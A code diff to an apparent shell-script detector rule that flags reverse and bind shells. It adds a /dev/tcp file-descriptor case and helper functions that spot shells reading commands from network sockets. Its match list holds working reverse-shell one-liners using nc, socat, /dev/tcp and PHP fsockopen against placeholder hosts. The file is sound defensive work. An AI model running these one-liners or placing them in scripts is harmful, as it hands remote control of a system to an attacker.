@@ -25,6 +25,7 @@ REVERSE = rule(
         "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
         "socat TCP:10.0.0.1:1 EXEC:/bin/sh",
         "exec 5<>/dev/tcp/h/1; cat <&5 | while read l; do $l >&5; done",
+        "exec 5<>/dev/tcp/h/1; sh <&5 >&5 2>&5",
         'php -r \'$s=fsockopen("h",1);exec("sh <&3 >&3");\'',
     ),
     not_match=(
@@ -99,11 +100,13 @@ _BYTES = re.compile(r"(?:\\x[0-9a-fA-F]{2}){4,}")
 
 def check(script: Script) -> Iterator[Violation]:
     """Yield reverse and bind shells, and what makes them."""
+    sockets = _sockets(script)
     for command in script.commands:
         if command.own:
             continue
         if (
             _over_device(command)
+            or _over_socket(command, sockets)
             or _netcat(command)
             or _relay(command)
             or _one_liner(command)
@@ -129,6 +132,19 @@ def _over_device(command: Command) -> bool:
             or _zsh(command)
         )
     return False
+
+
+def _sockets(script: Script) -> set[str]:
+    """Return the file descriptors on which the script opens connections: `exec 5<>/dev/tcp/…`."""
+    opened = (one for one in script.redirects if _NET_DEVICE.search(one.target.text))
+    return {one.operator.rstrip("<>&") for one in opened} - {""}
+
+
+def _over_socket(command: Command, sockets: set[str]) -> bool:
+    """A shell that reads its commands from such a descriptor."""
+    if not sockets or command.name not in SHELLS:
+        return False
+    return any(r.operator.endswith("<&") and r.target.text in sockets for r in command.redirects)
 
 
 def _zsh(command: Command) -> bool:
